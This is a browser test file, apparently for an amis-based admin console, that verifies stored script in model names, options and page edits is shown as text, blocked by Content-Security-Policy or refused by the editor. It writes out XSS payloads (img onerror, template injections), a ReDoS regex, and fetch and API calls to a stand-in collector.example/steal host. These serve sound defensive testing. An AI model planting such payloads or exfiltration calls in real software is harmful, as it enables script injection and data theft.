/**
 * Stored script, in a real browser: a model whose names, descriptions and options are markup,
 * formulas and lodash templates shows them as text on its data page and runs none of them; an
 * edit of a page that would run script is refused in the editor, naming why; and the console's
 * Content-Security-Policy keeps an injected script from calling out.
 */
import { expect, type Page, test } from '@playwright/test';

import { e2eEnv } from './env';
import { sessionToken, E2E_ADMIN, signIn, trpcMutation } from './fixtures';

/** A text that runs script wherever amis renders it as HTML or a template. */
const hostile = (k: string) =>
  `<img src=x onerror="window.pwned='${k}'"> \${'${k}'+'-formula'} <%= window.pwned='${k}' %>`;

const DOCUMENT = {
  project: 'hostile',
  entities: [
    {
      code: 'item',
      name: hostile('entity'),
      fields: [
        {
          code: 'label',
          type: 'string',
          length: 200,
          name: hostile('field'),
          description: hostile('help'),
        },
        { code: 'state', type: 'enum', options: [hostile('option'), 'plain'] },
        // Backtracks for ever in a backtracking engine; amis's own matchRegexp is one.
        { code: 'sku', type: 'string', length: 100, validation: { pattern: '^(a+)+$' } },
      ],
    },
  ],
  relations: [],
};

/** CSP violations the page reports, as `directive blocked-uri`. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { violations: string[] }).violations = seen;
    document.addEventListener('securitypolicyviolation', (e) =>
      seen.push(`${e.effectiveDirective} ${e.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
}

const pwned = (page: Page) =>
  page.evaluate(() => (window as unknown as { pwned?: string }).pwned ?? null);

test.beforeAll(async ({ request }) => {
  const token = await sessionToken(request, E2E_ADMIN.email, E2E_ADMIN.password);
  await trpcMutation(request, token, 'schema.import', {
    project: 'hostile',
    document: JSON.stringify(DOCUMENT),
  });
  await trpcMutation(request, token, 'schema.publish', { project: 'hostile', confirm: [] });
  const row = await request.post(`${e2eEnv().E2E_RUNTIME_URL!}/api/v1/hostile/item`, {
    headers: { authorization: `Bearer ${token}` },
    data: { label: hostile('data'), state: hostile('option') },
  });
  expect(row.status(), await row.text()).toBe(200);
});

test('model text shows as text on its data page, and nothing in it runs', async ({
  page,
}, testInfo) => {
  const violations = await watchViolations(page);
  await signIn(page, E2E_ADMIN.email, E2E_ADMIN.password);
  const response = await page.goto('/data/hostile/item');
  const host = page.locator('.amis-host');
  await expect(host.locator('tbody tr').first()).toBeVisible();
  // The names as written: a title, a column, a mapped option.
  await expect(host).toContainText(`${hostile('entity')}`);
  await expect(host.locator('thead').first()).toContainText(hostile('field'));
  await expect(host.locator('tbody')).toContainText(hostile('option'));
  // Rendered as text where amis shows text: the create button and its dialog.
  await host.getByRole('button', { name: /^New / }).click();
  const dialog = page.locator('.cxd-Modal');
  await expect(dialog).toContainText(`New ${hostile('entity')}`);
  await expect(dialog).toContainText(hostile('help'));
  // The field's pattern is checked as typed, in linear time, and the page stays responsive.
  await dialog.locator('input[name="sku"]').fill(`${'a'.repeat(40)}!`);
  await dialog.getByRole('button', { name: 'Confirm' }).click();
  await expect(dialog).toContainText('Does not match the required format');
  await dialog.locator('input[name="sku"]').fill('a'.repeat(40));
  await expect(dialog).not.toContainText('Does not match the required format');
  await dialog.getByRole('button', { name: 'Cancel' }).click();
  // The detail drawer: the row's values, each beside its field's name, as text too.
  await host.locator('tbody tr').first().getByRole('button', { name: 'Details' }).click();
  const drawer = page.locator('.cxd-Drawer');
  await expect(drawer).toContainText(hostile('data'));
  await expect(drawer).toContainText(hostile('field'));
  await expect(drawer).toContainText(hostile('entity'));
  await page.screenshot({ path: testInfo.outputPath('hostile-names.png'), fullPage: true });
  expect(await pwned(page)).toBeNull();
  // The page came with the console's policy, and amis ran within it.
  const policy = response!.headers()['content-security-policy'] ?? '';
  expect(policy).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic'/);
  expect(policy).toContain(`connect-src 'self' ${new URL(e2eEnv().E2E_RUNTIME_URL!).origin}`);
  expect(await violations()).toEqual([]);
});

test('markup that got in anyway runs no handler, and no script can call out', async ({ page }) => {
  const violations = await watchViolations(page);
  await signIn(page, E2E_ADMIN.email, E2E_ADMIN.password);
  await page.goto('/data/hostile/item');
  await expect(page.locator('.amis-host tbody tr').first()).toBeVisible();
  // As if a renderer had written model text as HTML: its handler is refused by the policy.
  await page.evaluate(() => {
    const box = document.createElement('div');
    box.innerHTML = `<img src="data:," onerror="window.pwned='handler'">`;
    document.body.appendChild(box);
  });
  await expect.poll(violations).toContainEqual(expect.stringMatching(/^script-src-attr inline/));
  expect(await pwned(page)).toBeNull();
  // Nor may the page's scripts send anything anywhere but the console and the runtime.
  const outcome = await page.evaluate(() =>
    fetch('https://collector.example/steal', { method: 'POST', body: 'token' }).then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(outcome).toBe('refused');
  await expect.poll(violations).toContain('connect-src https://collector.example/steal');
});

test('an edit of the page that would run script is refused in the editor, naming why', async ({
  page,
}) => {
  await signIn(page, E2E_ADMIN.email, E2E_ADMIN.password);
  await page.goto('/data/hostile/item');
  await page.getByRole('button', { name: 'Edit page' }).click();
  const dialog = page.getByRole('dialog', { name: 'Edit page' });
  const check = dialog.getByRole('status', { name: 'Page check' });
  await expect(check).toHaveText('Valid amis, and nothing a page may not hold');
  const editor = dialog.getByRole('textbox', { name: 'Page JSON' });
  await editor.click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.insertText(
    JSON.stringify({
      type: 'page',
      title: 'Items',
      onEvent: {
        init: { actions: [{ actionType: 'custom', script: 'window.pwned = "override"' }] },
      },
      body: { type: 'service', api: 'post:https://collector.example/x' },
    }),
  );
  await expect(check).toContainText('onEvent.init.actions.0.actionType: custom actions run script');
  await expect(check).toContainText("API addresses may only call this project's data API");
  await expect(dialog.getByRole('button', { name: 'Save' })).toBeDisabled();
  await expect(dialog.getByRole('tab', { name: 'Preview' })).toBeDisabled();
  expect(await pwned(page)).toBeNull();
});
